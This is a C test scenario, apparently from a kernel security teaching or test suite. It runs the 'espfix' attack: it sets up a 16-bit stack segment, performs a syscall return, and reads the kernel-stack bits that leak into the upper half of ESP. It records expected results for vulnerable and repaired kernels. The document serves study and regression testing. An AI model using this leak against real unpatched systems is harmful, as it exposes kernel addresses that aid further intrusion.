/* ATTACK stack_16bit: IRET to a stack segment of 16 bits gives us half of the kernel's ESP
 * SLIDE 9 Actual solutions with constrained segmentation
 * MECHANISM IRET to such a segment loads SP alone. What stands in ESP's upper half was the kernel's.
 * STOPPED set_thread_area() refuses 16-bit segments; where they have to be (modify_ldt), Linux returns
 *          through a stack of its own for them, "espfix". Split is no help; it tells an offset, flat
 *          a linear address.
 * HISTORY known since the 386. Linux i386 has had espfix since 2.6.12; 64-bit kernels leaked until 3.16,
 *          "x86-64, espfix: Don't leak bits 31:16 of %esp returning to 16-bit stack", commit
 *          3891a04aafd6.
 * VULNERABLE split,flat,fenced/all kernel-leak  ESP's upper half is that of the thread's kernel stack
 * REPAIRED split,flat,fenced/all refused  no such segment
 */
#include "lib/scenario.h"

/* getpid() with this SS and a small ESP: what ESP is afterwards. */
static unsigned int esp_after(unsigned short selector)
{
	unsigned int esp;

	__asm__ volatile("movl %%esp, %%esi; movl %%ss, %%edi; movw %w2, %%ss; movl %3, %%esp;"
			 "int %4; movl %%esp, %0; movl %%edi, %%ss; movl %%esi, %%esp"
			 : "=d"(esp) : "a"(NR_GETPID), "0"(selector), "i"(PAGE_SIZE), "i"(VECTOR_SYSCALL)
			 : "esi", "edi", "memory", "cc");
	return esp;
}

int scenario(void)
{
	struct user_desc d = { .entry_number = SEG_TLS_FIRST, .limit = 0xFFFF, .useable = 1 };
	long error;
	unsigned int esp;

	d.base_addr = (unsigned long)fresh_pages(1);
	error = attack(ATTACK_SEGMENT, (long)&d, 0);
	demo(DEMO_CLAIM_NONE, 0, 0, 0);
	if (!error) {
		esp = esp_after(SEG_TLS_FIRST << 3 | 3);
		demo(DEMO_TOLD, (long)&esp, sizeof(esp), 0);
	}
	demo(DEMO_RESULT, error, 0, 0);
	return 0;
}
